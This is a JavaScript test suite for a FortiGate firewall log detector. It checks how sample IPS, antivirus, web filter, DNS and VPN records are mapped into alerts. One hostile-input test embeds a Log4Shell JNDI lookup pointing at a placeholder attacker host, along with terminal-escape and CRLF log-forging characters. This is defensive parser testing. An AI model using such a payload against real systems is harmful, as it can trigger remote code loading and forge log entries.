import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import fortigate from '../../src/detectors/fortigate.js';
import { fastEnough } from './helpers.js';
import { OTHER_FORMATS, alertOf, contextOf, holdsContract, othersExcept, reasonOf, sniff } from './net-helpers.js';

// Records written after the FortiOS Log Message Reference (5.6 … 7.4): field names and value sets per log id.

const IPS =
  '<185>date=2024-03-11 time=14:22:05 devname="FGT-HQ" devid="FG200FT921900123" eventtime=1710166925418653920 tz="+0100" logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" vd="root" severity="critical" srcip=203.0.113.45 srccountry="Netherlands" dstip=10.10.20.15 srcintf="wan1" srcintfrole="wan" dstintf="dmz" dstintfrole="dmz" sessionid=88123456 action="dropped" proto=6 service="HTTPS" policyid=12 poluuid="5d9c3f7a-1111-51ee-2222-333344445555" policytype="policy" attack="Apache.Log4j.Error.Log.Remote.Code.Execution" srcport=51234 dstport=443 hostname="portal.example.com" url="/login" direction="outgoing" attackid=51006 profile="default" ref="http://www.fortinet.com/ids/VID51006" incidentserialno=1962906682 msg="applications3: Apache.Log4j.Error.Log.Remote.Code.Execution" crscore=50 craction=4096 crlevel="critical"';

test('IPS (FortiOS 7.x): attack, attackid, severity, dropped, tz honoured, incident serial as vendor id', () => {
  assert.ok(sniff(fortigate, IPS) >= 0.95);
  const a = alertOf(fortigate, IPS);
  assert.equal(a.title, 'Apache.Log4j.Error.Log.Remote.Code.Execution');
  assert.deepEqual(a.rule, { id: '51006', name: 'Apache.Log4j.Error.Log.Remote.Code.Execution', category: 'ips/signature' });
  assert.equal(a.severity, 95);
  assert.deepEqual(a.vendor_severity, { value: 'critical', scale: 'fortios severity info|low|medium|high|critical' });
  assert.equal(a.action, 'blocked');
  assert.equal(a.time, '2024-03-11T13:22:05.000Z');
  assert.deepEqual(a.src, { ip: '203.0.113.45', port: 51234 });
  assert.deepEqual(a.dst, { ip: '10.10.20.15', port: 443, host: 'portal.example.com' });
  assert.equal(a.url, 'https://portal.example.com/login');
  assert.equal(a.domain, 'portal.example.com');
  assert.equal(a.vendor_id, 'FG200FT921900123:1962906682');
});

test('FortiOS 6.0 (no tz): eventtime in seconds is the time; without it, date+time in the source zone', () => {
  const old = 'date=2019-05-15 time=18:03:36 logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" vd="root" eventtime=1557968615 severity="high" srcip=10.1.100.22 dstip=172.16.200.55 sessionid=901 action="detected" proto=6 service="HTTP" attack="Adobe.Flash.casi32.Integer.Overflow" srcport=42204 dstport=80 attackid=45541';
  const a = alertOf(fortigate, old);
  assert.equal(a.time, '2019-05-16T01:03:35.000Z');
  assert.equal(a.action, 'detected');
  assert.equal(a.severity, 75);
  const noEpoch = old.replace(' eventtime=1557968615', '');
  assert.equal(alertOf(fortigate, noEpoch, { timeZone: 'America/Los_Angeles' }).time, '2019-05-16T01:03:36.000Z');
});

test('antivirus: virus name, file, hash, quarantine; legacy FortiOS 5.0 type=virus', () => {
  const av = '<189>date=2023-07-01 time=09:15:00 devname="FG60F" devid="FGT60FTK2109ABCD" eventtime=1688202900000000000 tz="+0000" logid="0211008192" type="utm" subtype="virus" eventtype="infected" level="warning" vd="root" policyid=3 msg="File is infected." action="blocked" service="HTTP" sessionid=4455 srcip=10.0.5.23 dstip=198.51.100.80 srcport=50500 dstport=80 srcintf="internal" dstintf="wan1" proto=6 direction="incoming" filename="eicar.com" quarskip="File-was-not-quarantined" virus="EICAR_TEST_FILE" dtype="Virus" ref="http://www.fortinet.com/ve?vn=EICAR_TEST_FILE" virusid=2172 url="http://dl.example.net/eicar.com" profile="default" user="jdoe" agent="curl/7.68.0" analyticscksum="275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f" analyticssubmit="false" crscore=50 craction=2 crlevel="critical"';
  const a = alertOf(fortigate, av);
  assert.equal(a.title, 'EICAR_TEST_FILE in eicar.com');
  assert.deepEqual(a.rule, { id: '2172', name: 'EICAR_TEST_FILE', category: 'virus/infected Virus' });
  assert.deepEqual(a.malware, { name: 'EICAR_TEST_FILE' });
  assert.equal(a.file?.name, 'eicar.com');
  assert.equal(a.file?.sha256, '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f');
  assert.equal(a.url, 'http://dl.example.net/eicar.com');
  assert.deepEqual(a.user, { name: 'jdoe' });
  assert.equal(a.severity, 95, 'crlevel critical');
  const legacy = 'date=2014-02-01 time=10:00:00 devname=FG100D devid=FG100D3G13800000 logid=0211008192 type=virus subtype=infected level=warning vd=root srcip=10.0.0.9 dstip=192.0.2.10 action=blocked virus="W32/Agent.X!tr" filename="setup.exe"';
  const l = alertOf(fortigate, legacy);
  assert.equal(l.title, 'W32/Agent.X!tr in setup.exe');
  assert.equal(l.rule?.category?.startsWith('virus'), true);
});

test('web filter block, application control pass, DLP, anomaly, SSL anomaly: all alerts with their own titles', () => {
  const web = alertOf(fortigate, '<188>date=2020-04-23 time=12:17:48 devname="fw1" devid="FGT6HD3916800000" logid="0316013056" type="utm" subtype="webfilter" eventtype="ftgd_blk" level="warning" vd="root" eventtime=1587662268 tz="-0500" policyid=10 sessionid=1234 user="alice" group="staff" srcip=192.168.2.1 srcport=61930 dstip=203.0.113.13 dstport=443 proto=6 service="HTTPS" hostname="bad.example.org" profile="strict" action="blocked" reqtype="direct" url="/x/y?z=1" sentbyte=1152 rcvdbyte=1130 direction="outgoing" msg="URL belongs to a denied category in policy" method="domain" cat=26 catdesc="Malicious Websites"');
  assert.equal(web.title, 'Web filter blocked: Malicious Websites');
  assert.equal(web.rule?.id, 'webfilter:26');
  assert.equal(web.url, 'https://bad.example.org/x/y?z=1');
  assert.equal(web.severity, 50);
  assert.equal(web.time, '2020-04-23T17:17:48.000Z');
  const app = alertOf(fortigate, '<190>date=2020-04-23 time=13:17:35 devname="fw1" devid="FGT6HD3916800000" logid="1059028704" type="utm" subtype="app-ctrl" eventtype="signature" level="information" vd="root" eventtime=1587662255 tz="-0400" appid=40568 srcip=192.168.2.1 dstip=203.0.113.13 srcport=59790 dstport=443 proto=6 service="SSL" direction="outgoing" policyid=12 sessionid=453234 applist="default" action="pass" appcat="Web.Client" app="HTTPS.BROWSER" hostname="www.example.com" incidentserialno=23465 url="/" msg="Web.Client: HTTPS.BROWSER," apprisk="medium"');
  assert.equal(app.title, 'Application control: HTTPS.BROWSER');
  assert.equal(app.action, 'allowed');
  assert.equal(app.rule?.category, 'Web.Client');
  assert.equal(app.severity_label, 'low');
  const dlp = alertOf(fortigate, 'date=2024-01-05 time=08:00:00 devname="fw2" devid="FG1K0E3917000001" logid="0954024576" type="utm" subtype="dlp" eventtype="dlp" level="warning" vd="root" filteridx=1 filtertype="credit-card" filtercat="message" severity="medium" policyid=5 sessionid=99 srcip=10.2.3.4 srcport=50000 dstip=198.51.100.9 dstport=25 proto=6 service="SMTP" profile="dlp-cc" action="block" direction="outgoing" from="a@corp.example" to="b@ext.example" subject="card" msg="Credit card number detected"');
  assert.equal(dlp.title, 'Credit card number detected');
  assert.equal(dlp.action, 'blocked');
  assert.equal(dlp.severity, 50);
  const anomaly = alertOf(fortigate, 'date=2024-01-05 time=08:00:00 devname="fw2" devid="FG1K0E3917000001" logid="0720018432" type="utm" subtype="anomaly" eventtype="anomaly" level="alert" vd="root" severity="critical" srcip=203.0.113.77 dstip=10.0.0.10 srcintf="wan1" sessionid=0 action="clear_session" proto=6 service="HTTP" count=1903 attack="tcp_syn_flood" srcport=2000 dstport=80 attackid=100663396 policyid=1 ref="http://www.fortinet.com/ids/VID100663396" msg="anomaly: tcp_syn_flood, 2001 > threshold 2000" crscore=50 crlevel="critical"');
  assert.equal(anomaly.title, 'tcp_syn_flood');
  assert.equal(anomaly.action, 'blocked');
  const ssl = alertOf(fortigate, 'date=2024-01-05 time=08:00:00 devname="fw2" devid="FG1K0E3917000001" logid="1700062002" type="utm" subtype="ssl" eventtype="ssl-anomalies" level="warning" vd="root" policyid=12 sessionid=7 service="HTTPS" srcip=10.2.3.4 srcport=1 dstip=203.0.113.5 dstport=443 proto=6 action="blocked" msg="Server certificate blocked" reason="block-cert-invalid"');
  assert.equal(ssl.title, 'Server certificate blocked');
  assert.equal(ssl.action, 'blocked');
});

test('traffic → flow context; DNS filter without a verdict → dns context; botnet DNS → alert', () => {
  const [flow] = contextOf(fortigate, '<189>date=2020-04-23 time=12:11:51 devname="newfirewall" devid="FGT60E0000000001" logid="0000000020" type="traffic" subtype="forward" level="notice" vd="root" eventtime=1587229911 tz="-0500" srcip=192.168.10.10 srcport=6000 srcintf="port1" dstip=203.0.113.13 dstport=6000 dstintf="wan1" sessionid=4352 proto=17 action="accept" policyid=3426 service="udp/6000" trandisp="snat" transip=198.51.100.14 transport=60964 duration=5462 sentbyte=438650 rcvdbyte=65446');
  assert.equal(flow!.kind, 'flow');
  assert.equal(flow!.time, '2020-04-23T17:11:51.000Z');
  assert.equal(flow!.data.sentbyte, '438650');
  assert.ok(flow!.observables.some((o) => o.value === '198.51.100.14' && o.role === 'src_nat'));
  const [dns] = contextOf(fortigate, 'date=2020-04-23 time=12:17:29 devname="fw" devid="FGT60E0000000001" logid="1501054802" type="utm" subtype="dns" eventtype="dns-response" level="notice" vd="root" policyid=26 sessionid=5 srcip=192.168.2.1 srcport=53430 dstip=192.0.2.53 dstport=53 proto=17 qname="www.example.com" qtype="A" ipaddr="93.184.216.34" msg="Domain is monitored" action="pass" cat=52 catdesc="Information Technology"');
  assert.equal(dns!.kind, 'dns');
  const bot = alertOf(fortigate, 'date=2020-04-23 time=12:17:29 devname="fw" devid="FGT60E0000000001" logid="1501054601" type="utm" subtype="dns" eventtype="dns-response" level="warning" vd="root" policyid=26 sessionid=5 srcip=192.168.2.1 srcport=53430 dstip=192.0.2.53 dstport=53 proto=17 qname="cnc.badbot.example" qtype="A" msg="Domain was blocked because it is in the botnet database" action="redirect" botnetdomain="cnc.badbot.example"');
  assert.equal(bot.domain, 'cnc.badbot.example');
  assert.deepEqual(bot.malware, { name: 'cnc.badbot.example' });
  assert.equal(bot.action, 'blocked');
});

test('VPN events → vpn_session (SSL tunnel-up, IPsec negotiate error, SSL login fail); admin login failure → auth', () => {
  const [up] = contextOf(fortigate, '<190>date=2020-04-23 time=12:23:47 devname="vpn-gw" devid="FGT60E0000000002" logid="0101039947" type="event" subtype="vpn" level="information" vd="root" eventtime=1587662627 tz="-0500" logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=2345 remip=203.0.113.13 tunnelip=10.212.134.200 user="someuser" group="vpn-users" dst_host="N/A" reason="tunnel established" msg="SSL tunnel established"');
  assert.equal(up!.kind, 'vpn_session');
  assert.equal(up!.data.user, 'someuser');
  assert.equal(up!.data.public_ip, '203.0.113.13');
  assert.equal(up!.data.private_ip, '10.212.134.200');
  assert.equal(up!.data.event_id, 'tunnel-up');
  assert.deepEqual(up!.observables.map((o) => o.role), ['user', 'src', 'tunnel']);
  const [ike] = contextOf(fortigate, '<187>date=2020-04-23 time=12:32:47 devname="vpn-gw" devid="FGT60E0000000002" logid="0101037124" type="event" subtype="vpn" level="error" vd="root" logdesc="IPsec phase 1 error" msg="IPsec phase 1 error" action="negotiate" remip=198.51.100.9 locip=203.0.113.1 remport=500 locport=500 outintf="wan2" user="N/A" group="N/A" xauthuser="N/A" xauthgroup="N/A" assignip=N/A vpntunnel="to-branch" status="negotiate_error" reason="peer SA proposal not match local policy"');
  assert.equal(ike!.kind, 'vpn_session');
  assert.equal(ike!.data.user, undefined);
  assert.equal(ike!.data.private_ip, undefined);
  assert.equal(ike!.data.status, 'negotiate_error');
  const [fail] = contextOf(fortigate, 'date=2024-02-02 time=07:00:00 devname="vpn-gw" devid="FGT60E0000000002" logid="0101039426" type="event" subtype="vpn" level="alert" vd="root" logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" tunnelid=0 remip=192.0.2.200 user="admin" group="N/A" reason="sslvpn_login_permission_denied" msg="SSL user failed to logged in"');
  assert.equal(fail!.data.event_id, 'ssl-login-fail');
  const [admin] = contextOf(fortigate, 'date=2024-02-02 time=07:00:00 devname="fw" devid="FGT60E0000000002" logid="0100032002" type="event" subtype="system" level="alert" vd="root" logdesc="Admin login failed" sn="0" user="admin" ui="https(192.0.2.99)" method="https" srcip=192.0.2.99 dstip=192.0.2.1 action="login" status="failed" reason="name_invalid" msg="Administrator admin login failed from https(192.0.2.99) because of invalid user name"');
  assert.equal(admin!.kind, 'auth');
  assert.ok(admin!.observables.some((o) => o.type === 'ip' && o.value === '192.0.2.99'));
  const [perf] = contextOf(fortigate, 'date=2024-02-02 time=07:00:00 devname="fw" devid="FGT60E0000000002" logid="0100040704" type="event" subtype="system" level="notice" vd="root" logdesc="System performance statistics" action="perf-stats" cpu=0 mem=10');
  assert.equal(perf!.kind, 'event');
});

test('records without date/devname (real-world variance) and an RFC 3164 header in front', () => {
  const bare = 'logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" srcip=10.0.0.1 dstip=10.0.0.2 attack="X.Y" attackid=7 severity="low" action="detected"';
  assert.equal(alertOf(fortigate, bare).time, '2024-12-01T00:00:00.000Z');
  const headed = `<189>Mar 11 14:22:05 FGT-HQ ${bare}`;
  assert.equal(alertOf(fortigate, headed).time, '2024-03-11T14:22:05.000Z');
});

test('sniff: FortiOS high; Sophos XG and other key=value formats low', () => {
  assert.ok(sniff(fortigate, OTHER_FORMATS.fortigate!) >= 0.9);
  for (const [name, text] of othersExcept('fortigate')) assert.ok(sniff(fortigate, text) < 0.5, `${name} sniffed ${sniff(fortigate, text)}`);
  assert.ok(sniff(fortigate, 'logid="0000000013" type="traffic" log_type="Firewall" log_component="x"') < 0.5);
});

test('malformed and hostile records', () => {
  assert.match(reasonOf(fortigate, 'type="utm" subtype="ips"'), /logid is missing/);
  assert.match(reasonOf(fortigate, 'logid="0000000013" type="weird"'), /log type "weird"/);
  assert.match(reasonOf(fortigate, 'date=2024-99-99 time=99:00:00 logid="0000000013" type="traffic"'), /not a valid time/);
  const big = 'A'.repeat(1 << 20);
  fastEnough(2000, () => holdsContract(fortigate, `${IPS} msg="${big}"`));
  fastEnough(2000, () => holdsContract(fortigate, `logid="0419016384" type="utm" subtype="ips" attack="${big}`));
  fastEnough(2000, () => holdsContract(fortigate, `logid="0419016384" type="utm" ${'a="\\'.repeat(100000)}`));
  fastEnough(2000, () => holdsContract(fortigate, `logid="0419016384" type="utm" ${'k=v '.repeat(100000)}`));
  const evil = alertOf(fortigate, IPS.replace('attack="Apache.Log4j.Error.Log.Remote.Code.Execution"', 'attack="${jndi:ldap://evil.example/a}\u0000\u001b[2J\r\nFAKE"'));
  assert.equal(evil.title, '${jndi:ldap://evil.example/a}[2J\nFAKE');
  const unbalanced = alertOf(fortigate, IPS.replace('msg="applications3:', 'msg="unterminated'));
  assert.equal(unbalanced.rule?.id, '51006');
});

test('property: generated UTM IPS records map back; junk and mutations hold the contract', () => {
  const ipv4 = fc.tuple(fc.integer({ min: 1, max: 223 }), fc.nat(255), fc.nat(255), fc.integer({ min: 1, max: 254 })).map((p) => p.join('.'));
  const attack = fc.stringMatching(/^[A-Za-z][A-Za-z0-9.]{0,40}$/);
  fc.assert(
    fc.property(ipv4, ipv4, attack, fc.integer({ min: 1, max: 99999999 }), fc.constantFrom('info', 'low', 'medium', 'high', 'critical'),
      fc.constantFrom('dropped', 'detected', 'reset', 'pass'), (src, dst, name, id, sev, action) => {
        const a = alertOf(fortigate, `date=2024-03-11 time=14:22:05 tz="+0000" devid="FG100E" logid="0419016384" type="utm" subtype="ips" level="alert" severity="${sev}" srcip=${src} dstip=${dst} attack="${name}" attackid=${id} action="${action}"`);
        assert.equal(a.src?.ip, src);
        assert.equal(a.dst?.ip, dst);
        assert.equal(a.title, name);
        assert.equal(a.rule?.id, String(id));
        assert.equal(a.vendor_severity?.value, sev);
        assert.equal(a.action, action === 'pass' ? 'allowed' : action === 'detected' ? 'detected' : 'blocked');
      }),
    { numRuns: 150 },
  );
  fc.assert(
    fc.property(fc.string({ maxLength: 300 }), fc.integer({ min: 0, max: IPS.length }), (junk, at) => {
      holdsContract(fortigate, junk);
      holdsContract(fortigate, IPS.slice(0, at) + junk + IPS.slice(at));
    }),
    { numRuns: 300 },
  );
});
